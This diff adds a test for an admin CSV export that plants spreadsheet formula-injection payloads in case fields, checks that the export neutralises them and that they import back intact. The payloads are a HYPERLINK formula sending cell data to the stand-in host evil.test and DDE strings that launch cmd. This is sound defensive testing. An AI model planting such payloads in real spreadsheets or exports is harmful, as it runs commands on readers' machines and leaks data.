@@ -1,6 +1,7 @@
 import { mkdirSync, mkdtempSync, rmSync, writeFileSync } from 'node:fs';
 import { tmpdir } from 'node:os';
 import { join } from 'node:path';
+import { parse } from 'csv-parse/sync';
 import { afterEach, beforeEach, describe, expect, it } from 'vitest';
 import { addAction, createDossier, insertExpert, insertExpertiseType } from '../../../test/case-fixtures';
 import { pdf, upload } from '../../../test/document-fixtures';
@@ -183,6 +184,90 @@ describe('GET /api/admin/export', () => {
     const user = await signInUser(server, admin);
     expect((await user.get('/api/admin/export')).statusCode).toBe(403);
     expect((await admin.get('/api/audit?entity=export')).json().total).toBe(0);
+  });
+
+  it('writes no cell a spreadsheet would run as a formula, and the import reads each back as typed', async () => {
+    const admin = await signInAdmin(server);
+    const typed = {
+      link: '=HYPERLINK("http://evil.test/?"&A2,"Open")',
+      charge: "@SUM(1+1)*cmd|' /C calc'!A0",
+      action: "+cmd|' /C calc'!A0",
+      party: "-2+3+cmd|' /C calc'!A0",
+      note: '=1+1',
+      address: '@A1',
+      quoted: "'=already quoted",
+      title: '=2+3',
+      filename: '=cmd.pdf',
+    };
+    const dossier = await createDossier(admin, { nom_responsable_civil: typed.link, accusation: typed.charge, num_police: typed.quoted });
+    await addAction(admin, dossier.id_dossier, { contenu: typed.action });
+    const party = await admin.post('/api/parties', { kind: 'person', name: typed.party, note: typed.note, address: typed.address });
+    expect(party.statusCode).toBe(201);
+    expect(
+      (await admin.post(`/api/dossiers/${dossier.id_dossier}/parties`, { id_party: party.json().id_party, role: 'client' })).statusCode,
+    ).toBe(201);
+    expect(
+      (await upload(admin, dossier.id_dossier, [{ filename: typed.filename, content: pdf() }], { title: typed.title })).statusCode,
+    ).toBe(201);
+
+    const res = await admin.get('/api/admin/export');
+    const files = await unzip(res.rawPayload);
+    let cells = 0;
+    for (const [name, text] of files) {
+      for (const row of parse(text, { bom: true }) as string[][]) {
+        for (const cell of row) {
+          cells++;
+          if (/^-\d+([.,]\d+)?$/.test(cell)) continue;
+          expect(cell, `${name}: ${cell}`).not.toMatch(/^[=+\-@\t\r]/);
+        }
+      }
+    }
+    expect(cells).toBeGreaterThan(100);
+    for (const [file, value] of [
+      ['dossier.csv', typed.link],
+      ['dossier.csv', typed.charge],
+      ['dossier.csv', typed.quoted],
+      ['action.csv', typed.action],
+      ['parties.csv', typed.party],
+      ['parties.csv', typed.note],
+      ['parties.csv', typed.address],
+      ['documents.csv', typed.title],
+      ['documents.csv', typed.filename],
+    ] as const) {
+      expect((parse(files.get(file)!, { bom: true }) as string[][]).flat(), `${file}: ${value}`).toContain(`'${value}`);
+    }
+
+    const zipPath = join(dir, 'export.zip');
+    writeFileSync(zipPath, res.rawPayload);
+    const empty = await startTestServer();
+    try {
+      await signInAdmin(empty);
+      const source = await csvSource(zipPath);
+      const report = await runImport(empty.database, source);
+      await source.close();
+      expect(report.refused).toEqual([]);
+      const db = empty.database.db;
+      expect(
+        await db.selectFrom('dossier').select(['nom_responsable_civil', 'accusation', 'num_police']).executeTakeFirstOrThrow(),
+      ).toEqual({
+        nom_responsable_civil: typed.link,
+        accusation: typed.charge,
+        num_police: typed.quoted,
+      });
+      expect((await db.selectFrom('action').select('contenu').executeTakeFirstOrThrow()).contenu).toBe(typed.action);
+      expect(await db.selectFrom('party').select(['name', 'note', 'address']).executeTakeFirstOrThrow()).toEqual({
+        name: typed.party,
+        note: typed.note,
+        address: typed.address,
+      });
+      expect(await db.selectFrom('document').select(['filename', 'title']).executeTakeFirstOrThrow()).toEqual({
+        filename: typed.filename,
+        title: typed.title,
+      });
+      expect(await readExport(empty.database)).toEqual(await readExport(server.database));
+    } finally {
+      await empty.close();
+    }
   });
 
   // Two more servers, four imports and an export on a thread of its own: longer than the default on PostgreSQL.
